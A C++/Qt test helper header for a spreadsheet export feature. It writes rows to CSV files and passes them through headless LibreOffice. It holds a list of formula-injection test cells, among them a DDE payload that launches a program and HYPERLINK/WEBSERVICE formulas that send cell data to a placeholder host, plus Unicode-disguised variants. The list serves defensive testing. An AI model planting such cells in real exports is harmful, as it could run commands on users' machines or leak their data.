// SPDX-License-Identifier: GPL-3.0-or-later
// What the tests of exports share: rows into a file, cells that want to be formulas, and what
// LibreOffice makes of a file.
#pragma once

#include "filetablewriterfactory.h"

#include <QFile>
#include <QFileInfo>
#include <QProcess>
#include <QStandardPaths>
#include <QTemporaryDir>
#include <QVariant>

namespace attache {

using namespace Qt::StringLiterals;

inline QVector<ExportColumn> columns()
{
    return {{u"tenantId"_s, u"Mandanten-ID"_s},
            {u"name"_s, u"Firmenname"_s},
            {u"domain"_s, u"Dom\u00e4ne"_s}};
}

inline QByteArray contentOf(const QString &path)
{
    QFile file(path);
    return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArray("(unreadable)");
}

inline Status writeRows(const QString &path, const QVector<ExportColumn> &titles,
                        const QVector<QVector<QVariant>> &rows,
                        ExportFormat format = ExportFormat::Csv,
                        CsvDialect dialect = CsvDialect::Comma, bool replace = false)
{
    FileTableWriterFactory factory;
    auto writer = factory.create(path, format, dialect, replace);
    if (!writer)
        return writer.error();
    if (const Status status = (*writer)->begin(titles); !status)
        return status;
    for (const auto &row : rows) {
        if (const Status status = (*writer)->row(row); !status)
            return status;
    }
    return (*writer)->finish();
}

inline QStringList hostileCells()
{
    return {u"=1+1"_s,
            u"=HYPERLINK(\"http://x/\"&A1)"_s,
            u"=cmd|'/C calc'!A0"_s,
            u"=WEBSERVICE(\"http://x/\")"_s,
            u"+1+1"_s,
            u"-1+1"_s,
            u"@SUM(1)"_s,
            u"\t=1+1"_s,
            u"\r=1+1"_s,
            u"\n=1+1"_s,
            u" =1+1"_s,
            u"\u00a0=1+1"_s,
            u"\u200b=1+1"_s,
            u"\uff1d1+1"_s,
            u"\uff0b1+1"_s,
            u"\uff0d1+1"_s,
            u"\uff20SUM(1)"_s,
            u"=1+1\""_s,
            u"a\n=1+1"_s,
            u"'=1+1"_s,
            u"''=1+1"_s,
            u"+33 1 23 45 67 89"_s,
            u"@contoso"_s};
}

inline bool isLibreOfficeInstalled()
{
    return !QStandardPaths::findExecutable(u"soffice"_s).isEmpty();
}

/// The file as a flat OpenDocument sheet; empty if LibreOffice does not open it.
inline QByteArray throughLibreOffice(const QString &path)
{
    const QTemporaryDir folder;
    QProcess process;
    process.start(u"soffice"_s,
                  {u"-env:UserInstallation=file://"_s + folder.filePath(u"profile"_s),
                   u"--headless"_s, u"--convert-to"_s, u"fods"_s, u"--outdir"_s, folder.path(),
                   path});
    if (!process.waitForFinished(120'000))
        return {};
    return contentOf(folder.filePath(QFileInfo(path).completeBaseName() + u".fods"_s));
}

} // namespace attache
